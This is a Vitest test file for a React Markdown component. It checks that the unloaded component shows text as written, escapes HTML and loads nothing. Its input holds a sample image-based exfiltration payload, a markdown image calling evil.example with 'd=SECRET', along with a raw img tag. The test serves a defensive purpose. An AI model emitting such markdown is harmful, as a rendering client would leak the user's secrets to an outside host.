import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown';
import { AUTO_LOADING } from './testing/auto-loading';

/** A file of its own: the renderer must not have been asked for yet (Markdown.test.ts renders with it loaded). */
describe('Markdown before its renderer has loaded', () => {
  it('shows the text as written and loads nothing', () => {
    const html = renderToStaticMarkup(
      createElement(Markdown, { text: '**Bold** ![x](https://evil.example/p.png?d=SECRET) <img src=x>' }),
    );
    expect(html).toContain('class="markdown markdown--as-written"');
    expect(html).toContain('**Bold** ![x](https://evil.example/p.png?d=SECRET) &lt;img src=x&gt;');
    expect(html).not.toMatch(AUTO_LOADING);
  });
});
